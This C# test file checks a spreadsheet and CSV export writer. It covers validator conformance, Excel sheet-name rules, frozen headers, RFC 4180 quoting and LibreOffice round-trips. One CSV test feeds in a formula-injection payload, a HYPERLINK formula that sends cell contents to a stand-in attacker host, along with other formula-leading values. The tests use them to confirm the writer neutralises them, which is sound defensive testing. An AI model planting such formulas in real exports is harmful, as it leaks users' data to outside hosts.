using System.Diagnostics;
using System.Globalization;
using System.Text;
using CsvHelper;
using DocumentFormat.OpenXml.Packaging;
using DocumentFormat.OpenXml.Spreadsheet;
using DocumentFormat.OpenXml.Validation;
using Harmonia.App.Rendering;

namespace Harmonia.Tests.Rendering;

/// <summary>Tabular exports read back by real readers: the Open XML SDK and its validator, CsvHelper, LibreOffice.</summary>
public sealed class TabularExportTests
{
    private static readonly string LongText = string.Concat(Enumerable.Repeat("Residual risk accepted by the board. ", 60))[..2000];
    private static readonly DateOnly Due = new(2026, 3, 31);

    private static TabularSheet Risks() => new(
        "Risks: 2026/Q1?",
        [new("Id"), new("Title"), new("Score"), new("Due")],
        [
            ["R-1", "Ærø Łódź", TabularCell.Number(12.5), TabularCell.Date(Due)],
            ["R-2", LongText, TabularCell.Number(-3), TabularCell.Empty],
            ["R-3", TabularCell.Text(null), TabularCell.Number(null), TabularCell.Date(null)],
        ]);

    private static TabularSheet Owners() => new(
        "Owners",
        [new("Name", Width: 30), new("Since")],
        [["Anna Kowalska", TabularCell.Date(new DateOnly(2024, 1, 15))]]);

    [Fact]
    public void Workbook_passes_the_validator_and_reads_back_with_headers_values_and_types()
    {
        var bytes = XlsxTableWriter.Write([Risks(), Owners()], title: "Risk register");
        using var document = SpreadsheetDocument.Open(new MemoryStream(bytes), false);
        AssertValid(document);
        Assert.Equal("Risk register", document.PackageProperties.Title);
        Assert.Equal("Harmonia", document.PackageProperties.Creator);

        var sheets = document.WorkbookPart!.Workbook.Sheets!.Elements<Sheet>().ToArray();
        Assert.Equal(["Risks 2026 Q1", "Owners"], sheets.Select(s => s.Name!.Value));

        var risks = Worksheet(document, 0);
        string[] headerCells = ["A1", "B1", "C1", "D1"];
        Assert.Equal(["Id", "Title", "Score", "Due"], headerCells.Select(r => Value(document, risks, r)));
        Assert.Equal("Ærø Łódź", Value(document, risks, "B2"));
        Assert.Equal(LongText, Value(document, risks, "B3"));
        Assert.True(Style(document, Cell(risks, "B3")!).Alignment?.WrapText?.Value, "a 2,000-character cell wraps");
        Assert.NotEqual(true, Style(document, Cell(risks, "B2")!).Alignment?.WrapText?.Value);

        var score = Cell(risks, "C2")!;
        Assert.Null(score.DataType);
        Assert.Equal(12.5, double.Parse(score.CellValue!.Text, CultureInfo.InvariantCulture));
        Assert.Equal("-3", Cell(risks, "C3")!.CellValue!.Text);

        var due = Cell(risks, "D2")!;
        Assert.Null(due.DataType);
        Assert.Equal(Due, DateOnly.FromDateTime(DateTime.FromOADate(double.Parse(due.CellValue!.Text, CultureInfo.InvariantCulture))));
        Assert.Equal("yyyy-mm-dd", DateFormatCode(document, due));

        string[] emptyCells = ["D3", "B4", "C4", "D4"];
        Assert.All(emptyCells, r => Assert.Null(Cell(risks, r)));

        Assert.Equal(30, Worksheet(document, 1).GetFirstChild<Columns>()!.Elements<Column>().First().Width!.Value);
        var autoWidth = risks.GetFirstChild<Columns>()!.Elements<Column>().ElementAt(1).Width!.Value;
        Assert.InRange(autoWidth, 8, 60);
    }

    [Fact]
    public void Every_sheet_has_a_frozen_bold_header_and_an_autofilter_over_the_used_range()
    {
        using var document = SpreadsheetDocument.Open(new MemoryStream(XlsxTableWriter.Write([Risks(), Owners()])), false);
        var workbook = document.WorkbookPart!.Workbook;
        foreach (var (index, range, name) in new[] { (0, "A1:D4", "'Risks 2026 Q1'!$A$1:$D$4"), (1, "A1:B2", "'Owners'!$A$1:$B$2") })
        {
            var sheet = Worksheet(document, index);
            var pane = sheet.GetFirstChild<SheetViews>()!.GetFirstChild<SheetView>()!.GetFirstChild<Pane>()!;
            Assert.Equal(1, pane.VerticalSplit!.Value);
            Assert.Contains("ySplit=\"1\"", pane.OuterXml, StringComparison.Ordinal);
            Assert.Equal(PaneStateValues.Frozen, pane.State!.Value);
            Assert.Equal("A2", pane.TopLeftCell!.Value);

            Assert.Equal(range, sheet.GetFirstChild<AutoFilter>()!.Reference!.Value);
            var filterName = workbook.DefinedNames!.Elements<DefinedName>().Single(d => d.LocalSheetId?.Value == index);
            Assert.Equal("_xlnm._FilterDatabase", filterName.Name!.Value);
            Assert.True(filterName.Hidden!.Value);
            Assert.Equal(name, filterName.Text);

            var header = Style(document, Cell(sheet, "A1")!);
            var font = document.WorkbookPart!.WorkbookStylesPart!.Stylesheet.Fonts!.Elements<Font>().ElementAt((int)header.FontId!.Value);
            Assert.NotNull(font.GetFirstChild<Bold>());
            Assert.NotEqual(0U, header.FillId!.Value);
        }
    }

    [Fact]
    public void Sheet_names_follow_excels_rules_and_stay_unique()
    {
        var forty = "Statement of Applicability for ISO 42001";
        Assert.Equal(40, forty.Length);
        var names = new[] { "Risks: 2026/Q1?", forty, forty, "Owners", "owners", "[*]", "'Quoted'" };
        var bytes = XlsxTableWriter.Write(names.Select(n => new TabularSheet(n, [new("A")], [])).ToArray());
        using var document = SpreadsheetDocument.Open(new MemoryStream(bytes), false);
        AssertValid(document);

        var written = document.WorkbookPart!.Workbook.Sheets!.Elements<Sheet>().Select(s => s.Name!.Value!).ToArray();
        Assert.Equal(
            ["Risks 2026 Q1", "Statement of Applicability for", "Statement of Applicability (2)", "Owners", "owners (2)", "Sheet6", "Quoted"],
            written);
        Assert.All(written, n =>
        {
            Assert.InRange(n.Length, 1, 31);
            Assert.True(n.IndexOfAny(['[', ']', ':', '*', '?', '/', '\\']) < 0, n);
        });
        Assert.Equal(written.Length, written.Distinct(StringComparer.OrdinalIgnoreCase).Count());
    }

    [Fact]
    public void A_row_longer_than_the_header_is_refused()
    {
        var sheet = new TabularSheet("Bad", [new("Only")], [["one", "two"]]);
        Assert.Throws<ArgumentException>(() => XlsxTableWriter.Write([sheet]));
        Assert.Throws<ArgumentException>(() => CsvTableWriter.Write(sheet));
    }

    [Fact]
    public void Csv_has_a_bom_quotes_where_rfc_4180_requires_and_reads_back_the_same_values()
    {
        var tricky = "Owner, \"Legal\"\nsecond line";
        var sheet = new TabularSheet(
            "Risks",
            [new("Title"), new("Note"), new("Score"), new("Due")],
            [
                ["Ærø Łódź", tricky, TabularCell.Number(-3), TabularCell.Date(Due)],
                ["=HYPERLINK(\"https://evil.example/?\"&A1,\"x\")", "+1", TabularCell.Number(1234.5), TabularCell.Empty],
                ["-2", "@SUM(A1)", TabularCell.Number(0.1), TabularCell.Text(null)],
                ["\tTabbed", "safe - text", TabularCell.Empty],
            ]);
        var bytes = CsvTableWriter.Write(sheet);

        Assert.Equal(new byte[] { 0xEF, 0xBB, 0xBF }, bytes[..3]);
        var raw = Encoding.UTF8.GetString(bytes, 3, bytes.Length - 3);
        Assert.StartsWith("Title,Note,Score,Due\r\n", raw, StringComparison.Ordinal);
        Assert.Contains("\"Owner, \"\"Legal\"\"\nsecond line\"", raw, StringComparison.Ordinal);

        Assert.Equal(
            [
                ["Title", "Note", "Score", "Due"],
                ["Ærø Łódź", tricky, "-3", "2026-03-31"],
                ["'=HYPERLINK(\"https://evil.example/?\"&A1,\"x\")", "'+1", "1234.5", ""],
                ["'-2", "'@SUM(A1)", "0.1", ""],
                ["'\tTabbed", "safe - text", "", ""],
            ],
            ReadCsv(bytes));
    }

    [Fact]
    public async Task A_line_break_inside_a_field_is_quoted_so_no_reader_starts_a_row_with_a_formula()
    {
        // The probe's case: a lone line feed, no comma or quote, then a formula. Unquoted, it began a new row.
        var sheet = new TabularSheet("Risks", [new("Title"), new("Owner")], [["Plain line\n=1+41", "CISO"], ["Carriage\r+1+41", " padded "]]);
        var bytes = CsvTableWriter.Write(sheet);
        var raw = Encoding.UTF8.GetString(bytes, 3, bytes.Length - 3);
        Assert.Contains("\"Plain line\n=1+41\"", raw, StringComparison.Ordinal);
        Assert.Contains("\"Carriage\r+1+41\"", raw, StringComparison.Ordinal);
        Assert.Equal([["Title", "Owner"], ["Plain line\n=1+41", "CISO"], ["Carriage\r+1+41", " padded "]], ReadCsv(bytes));

        var soffice = FindOnPath("soffice");
        Assert.True(soffice is not null && HasCalc(soffice), "LibreOffice Calc is needed to check what a spreadsheet makes of the CSV (test.sh installs it).");

        var folder = Directory.CreateTempSubdirectory("harmonia-csv-").FullName;
        try
        {
            var file = Path.Combine(folder, "risks.csv");
            await File.WriteAllBytesAsync(file, bytes);
            var log = await RunAsync(soffice, ["--headless", $"-env:UserInstallation=file://{folder}/profile", "--convert-to", "csv:Text - txt - csv (StarCalc):44,34,76", "--outdir", Path.Combine(folder, "out"), file]);
            var converted = Path.Combine(folder, "out", "risks.csv");
            Assert.True(File.Exists(converted), "LibreOffice did not convert risks.csv: " + log);
            var rows = ReadCsv(await File.ReadAllBytesAsync(converted));
            Assert.Equal(3, rows.Count);
            Assert.DoesNotContain(rows.SelectMany(r => r), cell => cell.Contains("42", StringComparison.Ordinal));
        }
        finally
        {
            Directory.Delete(folder, recursive: true);
        }
    }

    [Fact]
    public async Task LibreOffice_opens_the_workbook_and_converts_the_first_sheet_to_csv()
    {
        if (FindOnPath("soffice") is not { } soffice || !HasCalc(soffice))
        {
            // No LibreOffice, or one without Calc (libreoffice-writer-nogui alone opens no spreadsheet): nothing to check with.
            return;
        }

        var folder = Directory.CreateTempSubdirectory("harmonia-xlsx-").FullName;
        try
        {
            var workbook = Path.Combine(folder, "risks.xlsx");
            await File.WriteAllBytesAsync(workbook, XlsxTableWriter.Write([Risks(), Owners()]));
            // Filter options: comma, double quote, UTF-8 (76), so the Unicode text survives whatever the locale.
            var log = await RunAsync(soffice, ["--headless", $"-env:UserInstallation=file://{folder}/profile", "--convert-to", "csv:Text - txt - csv (StarCalc):44,34,76", "--outdir", Path.Combine(folder, "out"), workbook]);

            var csv = Path.Combine(folder, "out", "risks.csv");
            Assert.True(File.Exists(csv), "LibreOffice did not convert risks.xlsx: " + log);
            var rows = ReadCsv(await File.ReadAllBytesAsync(csv));
            Assert.Equal(["Id", "Title", "Score", "Due"], rows[0]);
            Assert.Equal(["R-1", "Ærø Łódź", "12.5", "2026-03-31"], rows[1]);
        }
        finally
        {
            Directory.Delete(folder, recursive: true);
        }
    }

    private static void AssertValid(SpreadsheetDocument document)
    {
        var errors = new OpenXmlValidator().Validate(document).ToArray();
        Assert.True(errors.Length == 0, string.Join("\n", errors.Select(e => $"{e.Part?.Uri} {e.Path?.XPath}: {e.Description}")));
    }

    private static Worksheet Worksheet(SpreadsheetDocument document, int index)
    {
        var workbook = document.WorkbookPart!;
        var sheet = workbook.Workbook.Sheets!.Elements<Sheet>().ElementAt(index);
        return ((WorksheetPart)workbook.GetPartById(sheet.Id!.Value!)).Worksheet;
    }

    private static Cell? Cell(Worksheet sheet, string reference) =>
        sheet.Descendants<Cell>().SingleOrDefault(c => c.CellReference?.Value == reference);

    private static string? Value(SpreadsheetDocument document, Worksheet sheet, string reference)
    {
        var cell = Cell(sheet, reference);
        if (cell?.CellValue is null)
        {
            return null;
        }

        if (cell.DataType?.Value != CellValues.SharedString)
        {
            return cell.CellValue.Text;
        }

        var strings = document.WorkbookPart!.SharedStringTablePart!.SharedStringTable;
        return strings.Elements<SharedStringItem>().ElementAt(int.Parse(cell.CellValue.Text, CultureInfo.InvariantCulture)).InnerText;
    }

    private static CellFormat Style(SpreadsheetDocument document, Cell cell) =>
        document.WorkbookPart!.WorkbookStylesPart!.Stylesheet.CellFormats!.Elements<CellFormat>().ElementAt((int)(cell.StyleIndex?.Value ?? 0));

    private static string? DateFormatCode(SpreadsheetDocument document, Cell cell)
    {
        var id = Style(document, cell).NumberFormatId!.Value;
        return document.WorkbookPart!.WorkbookStylesPart!.Stylesheet.NumberingFormats!.Elements<NumberingFormat>()
            .SingleOrDefault(f => f.NumberFormatId!.Value == id)?.FormatCode?.Value;
    }

    private static List<string[]> ReadCsv(byte[] bytes)
    {
        using var reader = new StreamReader(new MemoryStream(bytes), Encoding.UTF8, detectEncodingFromByteOrderMarks: true);
        using var csv = new CsvReader(reader, CultureInfo.InvariantCulture);
        var rows = new List<string[]>();
        while (csv.Read())
        {
            rows.Add(Enumerable.Range(0, csv.Parser.Count).Select(i => csv.GetField(i) ?? string.Empty).ToArray());
        }

        return rows;
    }

    private static string? FindOnPath(string program) =>
        (Environment.GetEnvironmentVariable("PATH") ?? string.Empty)
            .Split(Path.PathSeparator, StringSplitOptions.RemoveEmptyEntries)
            .Select(d => Path.Combine(d, program))
            .FirstOrDefault(File.Exists);

    /// <summary>Calc's library sits beside the soffice binary: libsclo.so, sclo.dll or libsclo.dylib.</summary>
    private static bool HasCalc(string soffice)
    {
        var binary = new FileInfo(soffice).ResolveLinkTarget(returnFinalTarget: true)?.FullName ?? soffice;
        return Directory.EnumerateFiles(Path.GetDirectoryName(binary)!, "*sclo.*").Any();
    }

    private static async Task<string> RunAsync(string program, IEnumerable<string> arguments)
    {
        var start = new ProcessStartInfo(program) { RedirectStandardOutput = true, RedirectStandardError = true };
        foreach (var argument in arguments)
        {
            start.ArgumentList.Add(argument);
        }

        using var process = Process.Start(start)!;
        var output = process.StandardOutput.ReadToEndAsync();
        var error = process.StandardError.ReadToEndAsync();
        using var timeout = new CancellationTokenSource(TimeSpan.FromMinutes(5));
        await process.WaitForExitAsync(timeout.Token);
        var log = $"{await output} {await error}";
        Assert.True(process.ExitCode == 0, $"{program} failed: {log}");
        return log;
    }
}
